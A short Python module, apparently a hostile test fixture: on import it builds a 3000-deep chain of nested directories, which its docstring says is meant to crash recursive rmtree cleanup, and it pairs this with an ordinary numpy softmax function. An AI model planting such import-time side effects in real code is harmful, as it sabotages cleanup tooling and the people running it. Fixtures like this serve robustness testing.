"""Leaves a 3000-deep tree of folders in the work directory (deep enough to crash a recursive rmtree)."""
import os

import numpy as np

fd = os.open(".", os.O_RDONLY)
for _ in range(3000):
    os.mkdir("d", dir_fd=fd)
    next_fd = os.open("d", os.O_RDONLY, dir_fd=fd)
    os.close(fd)
    fd = next_fd
os.close(fd)


def softmax(x, axis=-1):
    e = np.exp(x - x.max(axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
